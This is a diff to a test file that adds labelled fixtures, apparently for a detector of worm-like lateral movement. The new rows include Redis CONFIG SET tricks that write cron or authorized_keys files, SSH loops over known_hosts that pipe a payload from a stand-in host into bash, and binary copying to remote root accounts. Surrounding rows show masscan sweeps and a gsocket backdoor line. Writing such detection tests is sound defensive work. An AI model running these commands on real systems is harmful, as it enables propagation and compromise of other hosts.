@@ -240,6 +240,14 @@ class BehaviourTest {
             SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh -oBatchMode=yes $h 'id' & done
             SPREADS | masscan 10.0.0.0/8 -p6379 --rate 10000
             SPREADS | redis-cli -h 10.0.0.5 config set dir /var/spool/cron
+            SPREADS | redis-cli config set dir /var/spool/cron; redis-cli config set dbfilename root
+            SPREADS | redis-cli -h $h -p 6379 CONFIG SET dir /data
+            SPREADS | redis-cli config set dbfilename authorized_keys
+            - | redis-cli config set dir /data/redis; redis-cli -h 127.0.0.1 -a x CONFIG SET dbfilename dump.rdb
+            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh $h 'curl -s http://192.0.2.1/x | bash'; done
+            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do ssh $h 'uptime; df $(curl -s http://192.0.2.1/x | sh)'; done
+            SPREADS | for h in $(cat ~/.ssh/known_hosts | cut -d' ' -f1); do scp /opt/a root@$h:/opt/a; ssh $h 'uptime'; done
+            - | for h in $(grep -oE '^[0-9.]+' /root/.ssh/known_hosts); do ssh root@$h "df -h; uptime | head -1"; done
             - | ssh-keyscan git.example >> ~/.ssh/known_hosts; ssh deploy@web1 'systemctl reload app'
             GSOCKET | GS_ARGS="-s x -liqD" /usr/bin/gs-dbus
             GSOCKET | # DO NOT REMOVE THIS LINE. SEED PRNG. #defunct-kernel
